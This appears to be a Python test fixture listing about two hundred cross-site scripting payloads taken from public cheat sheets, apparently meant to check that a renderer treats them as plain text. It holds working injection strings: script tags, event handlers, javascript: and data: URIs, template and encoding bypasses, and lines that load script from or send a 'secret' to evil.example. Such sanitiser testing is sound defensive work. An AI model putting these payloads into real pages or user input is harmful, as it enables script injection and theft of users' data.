"""Two hundred ways in which text has been run as a script, from the published cheat sheets, each calling `alert`.

Where text is only ever text, every one of them is words.
"""

from __future__ import annotations

_WHOLE = r'''
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script>alert`1`</script>
<script/x>alert(1)</script>
<<script>alert(1);//<</script>
<script>alert(1)//
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<script>\u0061lert(1)</script>
<script>eval('ale'+'rt(1)')</script>
<script>window['alert'](1)</script>
<script>top[/al/.source+/ert/.source](1)</script>
<script type=module>alert(1)</script>
<script>import('//evil.example/x.mjs')</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x:alert(1) onerror=eval(src)>
<img/src=x/onerror=alert(1)>
<img src="x`<script>alert(1)</script>"`>
<img src=//evil.example/pixel.png>
<img srcset=//evil.example/pixel.png>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<IMG SRC=javascript:alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1)">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=//evil.example/x.js></script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1)>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href=javascript:alert(1)>x</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src=//evil.example></iframe>
<object data=javascript:alert(1)></object>
<object data=//evil.example/x.swf></object>
<embed src=javascript:alert(1)>
<embed src=//evil.example/x.swf>
<a href=javascript:alert(1)>click</a>
<a href="javascript&colon;alert(1)">click</a>
<a href="java&#115;cript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href=//evil.example target=_blank>click</a>
<form action=javascript:alert(1)><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form action=//evil.example><input type=submit></form>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)>
<body background=//evil.example/x.png>
<marquee onstart=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example>
<link rel=import href=//evil.example>
<base href=//evil.example/>
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(//evil.example/x.png)}</style>
<div style="background:url(//evil.example/x.png)">
<div style="width:expression(alert(1))">
<xss style="behavior:url(//evil.example/x.htc)">
<isindex type=image src=1 onerror=alert(1)>
<table background=javascript:alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<x onclick=alert(1)>click</x>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
![x](javascript:alert(1))
![x](//evil.example/pixel.png)
![x](https://evil.example/p.png?q=secret)
![x]("onerror="alert(1))
![x][1] [1]: //evil.example/pixel.png
[click](javascript:alert(1))
[click](JaVaScRiPt:alert(1))
[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[click](//evil.example)
[x](javascript:window.onerror=alert;throw%201)
<javascript:alert(1)>
<https://evil.example/?q=secret>
[a]: javascript:alert(1)
javascript:alert(1)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
data:text/html,<script>alert(1)</script>
';alert(1)//
";alert(1)//
`;alert(1)//
\";alert(1)//
</script><script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
{{7*7}}{{alert(1)}}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
[[${alert(1)}]]
{% alert(1) %}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
onmouseover=alert(1) x=
" onmouseover=alert(1) x="
' onmouseover=alert(1) x='
" autofocus onfocus=alert(1) x="
"><img src=x onerror=alert(1)>
'"><svg onload=alert(1)>
[e1]<script>alert(1)</script>
[e1](javascript:alert(1))
**<img src=x onerror=alert(1)>**
`<img src=x onerror=alert(1)>`
# <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
'''
_TAGS = ("a", "b", "div", "img", "input", "p", "svg", "video", "x")
_EVENTS = ("onclick", "onmouseover", "onfocus", "onpointerrawupdate", "onanimationstart", "onwheel", "oncopy")

PAYLOADS: tuple[str, ...] = (
    *filter(None, _WHOLE.splitlines()),
    *(f"<{tag} tabindex=1 {event}=alert(1) autofocus>x</{tag}>" for tag in _TAGS for event in _EVENTS),
)[:200]
